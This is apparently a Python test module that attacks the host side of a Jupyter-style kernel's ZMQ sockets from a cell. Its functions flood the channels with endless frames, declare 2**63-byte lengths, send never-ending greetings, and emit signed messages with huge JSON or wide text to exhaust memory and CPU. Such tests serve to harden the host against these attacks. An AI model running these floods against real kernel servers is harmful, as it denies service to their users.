"""Attacks on the host's end of a kernel's sockets, by a cell that speaks on them itself."""
# ruff: noqa: F821 - IPython's name and the prelude's

import struct
import time

from attacks.cells.prelude import (
    another_peer,
    connection_of,
    send_endlessly,
    zmtp_frame,
    zmtp_greeting,
)
from attacks.score import either, grew, stood_still
from attacks.words import attack

HOLDS = "the host's half of the session holds at every level"
HARMED = either(grew(), stood_still())


def _own(function):
    return attack("host-resource", HARMED, own_kernel=True, no_control=HOLDS)(function)


@_own
def endless_parts_on_stdin(c):
    """A message of endless parts on the stdin channel, written to the connection itself"""
    return send_endlessly(connection_of("stdin"), zmtp_frame(bytes(1 << 20)))


@_own
def endless_parts_on_shell(c):
    """A message of endless parts on the shell channel, for who comes back to another listener"""
    peer = another_peer("shell")
    ready = b"\x05READY\x0bSocket-Type\0\0\0\x06ROUTER"
    peer.sendall(zmtp_greeting() + zmtp_frame(ready, 4))
    return send_endlessly(peer, zmtp_frame(bytes(1 << 20)))


@_own
def endless_parts_on_iopub(c):
    """A message of endless parts on the output channel"""
    return send_endlessly(connection_of("iopub"), zmtp_frame(bytes(1 << 20)))


@_own
def endless_parts_on_control(c):
    """A message of endless parts on the control channel"""
    return send_endlessly(connection_of("control"), zmtp_frame(bytes(1 << 20)))


@_own
def endless_parts_of_another_peer(c):
    """A listener in the place of the kernel's own socket, and endless parts for who comes back"""
    peer = another_peer("stdin")
    ready = b"\x05READY\x0bSocket-Type\0\0\0\x06ROUTER"
    peer.sendall(zmtp_greeting() + zmtp_frame(ready, 4))
    return send_endlessly(peer, zmtp_frame(bytes(1 << 20)))


@_own
def endless_small_parts(c):
    """A message of endless parts of one byte each, which cost the receiver many times that"""
    return send_endlessly(connection_of("stdin"), zmtp_frame(b"x") * 300_000, most_mb=60)


@_own
def endless_commands(c):
    """Commands without an end, each of which asks for an answer that nobody reads"""
    ping = zmtp_frame(b"\x04PING\0\0" + b"x" * 16, 4)
    return send_endlessly(connection_of("stdin"), ping * 40_000, most_mb=300)


@_own
def one_frame_of_2_63_bytes(c):
    """A frame that is announced with 2**63 bytes, and a long part of it"""
    peer = connection_of("stdin")
    head = b"\x02" + struct.pack(">Q", 2**63 - 1)
    return send_endlessly(peer, bytes(1 << 20), first=head)


@_own
def greeting_without_an_end(c):
    """A listener in the place of the kernel's own socket that never ends its greeting"""
    peer = another_peer("stdin")
    until = time.monotonic() + 8
    while time.monotonic() < until:
        peer.sendall(b"\xff")
        time.sleep(0.01)
    return "the greeting went on for 8 s"


@_own
def flood_of_signed_messages(c):
    """Small valid messages, as fast as they go, while the cell runs and after it"""
    import threading

    kernel = get_ipython().kernel

    def flood():
        content = {"code": "x" * 200, "execution_count": 1}
        until = time.monotonic() + 12
        while time.monotonic() < until:
            kernel.session.send(kernel.iopub_socket, "execute_input", content, {"msg_id": "none"})

    thread = threading.Thread(target=flood, daemon=True)
    thread.start()
    time.sleep(4)
    return "the flood goes on after the cell"


@_own
def json_of_many_items(c):
    """Displays that are few bytes on the wire and a million objects each"""
    kernel = get_ipython().kernel
    message = kernel.session.msg("display_data", parent=kernel.get_parent("shell"))
    for _ in range(3):
        frames = kernel.session.serialize(message)
        frames[5] = b'{"data": {"a": [' + b",".join([b"[]"] * 490_000) + b'], "metadata": {}}'
        frames[1] = kernel.session.sign(frames[2:6])
        kernel.iopub_socket.send_multipart(frames)
    time.sleep(3)
    return "sent"


@_own
def json_of_many_quotes(c):
    """A display whose text is commas and quotes: to count what is in it takes long"""
    kernel = get_ipython().kernel
    message = kernel.session.msg("display_data", parent=kernel.get_parent("shell"))
    frames = kernel.session.serialize(message)
    frames[5] = b'{"data": {"a": [' + b'",,",' * 14_000_000 + b'""]}, "metadata": {}}'
    frames[1] = kernel.session.sign(frames[2:6])
    kernel.iopub_socket.send_multipart(frames)
    time.sleep(5)
    return "sent"


@_own
def text_of_wide_characters(c):
    """Texts that take four times their length in memory, kept as the cell's output"""
    kernel = get_ipython().kernel
    wide = "\U0001f600" * 4_500_000
    for _ in range(12):
        kernel.session.send(
            kernel.iopub_socket, "stream", {"name": "stdout", "text": wide},
            kernel.get_parent("shell"),
        )  # fmt: skip
        time.sleep(0.3)
    return "sent"
